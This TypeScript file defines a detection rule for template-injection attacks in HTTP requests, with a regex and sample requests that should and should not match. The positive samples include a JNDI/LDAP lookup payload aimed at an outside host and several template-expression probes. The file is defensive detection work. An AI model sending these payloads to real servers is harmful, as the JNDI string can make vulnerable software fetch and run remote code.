import type { AttackSignal } from "./attack-signal";

export const templateInjection: AttackSignal = {
  id: "template-injection",
  label: "template injection",
  clause: "carrying template injection",
  finds: "Requests that carry expressions for a template engine or a logger, such as JNDI look-ups",
  where: "text",
  pattern: /\$\{(?:jndi|env|sys|lower|upper|::-|[a-z0]{1,12}\s{0,9}[*+])|\{\{.{1,60}\}\}|<%=?.{1,60}%>|#\{.{1,60}\}/,
  shows: [
    { path: "/", query: "q=$%7Bjndi:ldap://203.0.113.7/a%7D" },
    { path: "/", query: "name={{7*7}}" },
    { path: "/", query: "name=%3C%25=%207*7%20%25%3E" },
    { path: "/", query: "name=%23%7B7*7%7D" },
    { path: "/", query: "x=$%7B7*7%7D" },
  ],
  silent: [
    { path: "/items", query: "filter={%22size%22:3}" },
    { path: "/price", query: "max=$20" },
    { path: "/page", query: "color=%23ffcc00" },
  ],
};
